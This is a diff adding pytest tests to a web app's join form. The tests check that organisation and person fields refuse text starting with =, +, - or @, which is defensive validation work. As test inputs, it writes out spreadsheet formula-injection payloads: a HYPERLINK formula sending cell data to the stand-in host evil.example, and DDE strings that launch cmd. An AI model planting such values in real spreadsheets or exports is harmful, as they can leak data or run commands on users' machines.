@@ -174,3 +174,25 @@ def test_join_form_renders_in_each_language(
         response = client.get(f"/{lang}/join/")
     assert response.status_code == 200
     assert response["Cache-Control"].startswith("max-age=0")
+
+
+@pytest.mark.parametrize(
+    "field",
+    ["name", "local_name", "description", "contact_name", "contact_role", "support_statement"],
+)
+@pytest.mark.parametrize(
+    "value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
+)
+def test_text_a_spreadsheet_would_run_is_refused(client, site_settings, org_data, field, value):
+    response = post(client, {**org_data, field: value})
+    assert_refused(response, "Please start with a letter or a digit, not with =, +, - or @.")
+
+
+def test_an_individual_cannot_start_a_name_with_a_formula(client, site_settings, person_data):
+    for field in ("name", "display_name", "affiliation"):
+        response = post(client, {**person_data, field: "-2+3+cmd|' /C calc'!A0"})
+        assert_refused(response, "not with =, +, - or @")
+
+
+def test_a_phone_number_may_start_with_a_plus(client, site_settings, org_data):
+    assert post(client, {**org_data, "phone": "+82 2 1234 5678"}).status_code == 302
